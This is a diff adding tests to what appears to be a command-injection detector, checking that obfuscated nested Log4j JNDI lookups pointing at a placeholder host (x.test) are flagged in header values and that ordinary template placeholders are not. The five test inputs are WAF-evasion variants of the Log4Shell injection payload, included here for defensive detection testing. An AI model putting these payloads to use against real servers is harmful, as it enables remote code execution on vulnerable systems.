@@ -504,3 +504,17 @@ describe('cmdi: Markdown tables and code comments are not command lines', () => 
     expectSameWhenSplit(d, [input], 'body');
   });
 });
+
+describe('cmdi: nested Log4j lookups', () => {
+  // Lookups nested to spell "jndi" around a WAF: ${${lower:j}ndi:..}, ${::-j}, ${j${k8s:x:-ND}i:..} are Log4j syntax
+  // that bash rejects as a bad substitution, so they never occur in a shell-looking value by accident.
+  it.each(['${${lower:j}ndi:${lower:l}dap://x.test/a}', '${${::-j}${::-n}${::-d}${::-i}:rmi://x.test/a}',
+    '${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x.test/a}', '${j${k8s:k5:-ND}i:ldap://x.test/a}', 'x-${jn${lower:d}i:dns://x.test}'])('%s fires', (input) => {
+    expect(ruleIds(d.scan(input, { context: 'header' }))).toContain('cmdi.command-substitution');
+    expectSameWhenSplit(d, [input], 'header');
+  });
+  it.each(['${$}', 'a ${b} ${c}', '${a}${b}', '${name}${other}', 'Total: ${amount} (${currency})'])('%s stays clean', (input) => {
+    expect(d.scan(input, { context: 'header' }).blocked).toBe(false);
+    expectSameWhenSplit(d, [input], 'header');
+  });
+});
